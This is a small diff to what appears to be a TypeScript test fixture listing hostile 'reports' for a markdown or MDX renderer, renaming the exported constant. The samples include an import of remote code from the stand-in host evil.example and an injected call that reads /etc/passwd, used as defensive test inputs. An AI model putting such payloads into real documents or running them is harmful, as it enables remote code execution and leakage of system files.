@@ -1,5 +1,5 @@
 /** Hostile reports, by what they try; those of `markdown.ts` are tried as reports too. */
-export const REPORTS: Record<string, string> = {
+export const reports: Record<string, string> = {
   import: 'import x from "https://evil.example/x.js"',
   'import of a file': 'import fs from "node:fs"\n\n{fs.readFileSync("/etc/passwd")}',
   'import of a picture': 'import x from "/media/a.jpg?raw"',
